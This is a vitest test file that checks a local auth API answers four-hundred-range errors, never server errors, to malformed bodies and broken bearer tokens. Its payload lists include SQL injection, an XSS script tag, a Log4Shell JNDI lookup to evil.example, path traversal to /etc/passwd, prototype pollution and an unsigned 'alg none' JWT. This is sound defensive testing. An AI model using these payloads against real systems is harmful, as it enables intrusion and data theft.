import { describe, expect, it } from 'vitest';
import { callApi, GOOD_PASSWORD, localCloudUrl } from '../../testing/local-cloud-api';

// Thirty hostile or broken bodies per auth call: every answer is a 4xx with an {error} string, never a 5xx.

const url = localCloudUrl();

const ONE_MB = 'a'.repeat(1024 * 1024);
const INJECTIONS = [
  "' OR '1'='1' --",
  '"; DROP TABLE users; --',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '{"$gt": ""}',
  '../../../../etc/passwd',
];
const UNICODE = [
  'ｔｅｓｔ＠ｅｘａｍｐｌｅ．ｃｏｍ',
  'тест@пример.рф',
  '\u0000\u0001\u0002',
  '😀'.repeat(300),
  'e\u0301@x.io',
];

type Body = { raw: string } | { json: unknown };

/** The same thirty shapes for every call, with the call's own fields filled in where a shape needs them. */
function malformedBodies(fields: readonly string[]): Body[] {
  const withEach = (value: unknown) => Object.fromEntries(fields.map((field) => [field, value]));
  const bodies: Body[] = [
    { raw: '' },
    { raw: '{' },
    { raw: 'null' },
    { raw: '[]' },
    { raw: '"a string"' },
    { raw: '12345' },
    { json: {} },
    { json: withEach(null) },
    { json: withEach(42) },
    { json: withEach(true) },
    { json: withEach(['a@b.co']) },
    { json: withEach({ nested: 'a@b.co' }) },
    { json: withEach(ONE_MB) },
    { raw: JSON.stringify({ [fields[0] ?? 'x']: ONE_MB }) },
    { json: withEach('') },
    { json: withEach('   ') },
    ...UNICODE.map((value) => ({ json: withEach(value) })),
    ...INJECTIONS.map((value) => ({ json: withEach(value) })),
    // Right types, but each field in turn missing.
    ...fields.map((missing) => ({
      json: Object.fromEntries(fields.filter((field) => field !== missing).map((field) => [field, 'a@b.co'])),
    })),
    { raw: '{"__proto__": {"admin": true}}' },
    { raw: '{"constructor": {"prototype": {"admin": true}}}' },
    { raw: `{"${fields[0] ?? 'x'}": "\\ud800"}` },
  ];
  while (bodies.length < 30) bodies.push({ json: withEach(INJECTIONS[bodies.length % INJECTIONS.length]) });
  return bodies.slice(0, 30);
}

const calls = [
  { path: '/api/auth/login', fields: ['email', 'password'] },
  { path: '/api/auth/register', fields: ['email', 'password', 'confirmPassword'] },
  { path: '/api/auth/forgot-password', fields: ['email'] },
  { path: '/api/auth/reset-password', fields: ['token', 'password'] },
] as const;

describe.each(calls)('$path with malformed bodies', ({ path, fields }) => {
  it('answers 4xx {error} to each of thirty, never 5xx', async () => {
    const bodies = malformedBodies(fields);
    expect(bodies).toHaveLength(30);
    for (const body of bodies) {
      const answer = await callApi(
        url,
        'POST',
        path,
        'raw' in body ? { rawBody: body.raw } : { json: body.json },
      );
      const shown = JSON.stringify(body).slice(0, 80);
      expect(answer.status, shown).toBeGreaterThanOrEqual(400);
      expect(answer.status, shown).toBeLessThan(500);
      expect(typeof (answer.body as { error?: unknown }).error, shown).toBe('string');
    }
  });
});

describe.each([
  ['/api/auth/me', 'GET'],
  ['/api/auth/refresh', 'POST'],
] as const)('%s with malformed credentials', (path, method) => {
  it('answers 401 {error} to thirty broken Authorization headers', async () => {
    const tokens = [
      '',
      'Bearer',
      'Bearer ',
      'bearer x',
      'Basic dXNlcjpwYXNz',
      `Bearer ${ONE_MB.slice(0, 6000)}`,
      'Bearer a.b.c',
      'Bearer ..',
      'Bearer e30.e30.',
      'Bearer eyJhbGciOiJub25lIn0.e30.',
      ...INJECTIONS.map((value) => `Bearer ${encodeURIComponent(value)}`),
      ...UNICODE.map((value) => `Bearer ${encodeURIComponent(value)}`),
      'Bearer x y',
      `Bearer ${Buffer.from('{"alg":"HS256","kid":"CognitoLocal"}').toString('base64url')}.e30.c2ln`,
      `Bearer ${Buffer.from('{"alg":"RS256","kid":"CognitoLocal"}').toString('base64url')}.${Buffer.from(
        '{"exp":99999999999}',
      ).toString('base64url')}.c2ln`,
      'Token abc',
      'Bearer null',
      'Bearer [object Object]',
      `Bearer ${GOOD_PASSWORD}`,
      'Bearer %00',
      'Bearer ' + 'a.'.repeat(100),
    ];
    expect(tokens).toHaveLength(30);
    for (const authorization of tokens) {
      const answer = await callApi(url, method, path, { headers: { authorization } });
      expect(answer.status, authorization.slice(0, 60)).toBe(401);
      expect(typeof (answer.body as { error?: unknown }).error).toBe('string');
    }
  });
});
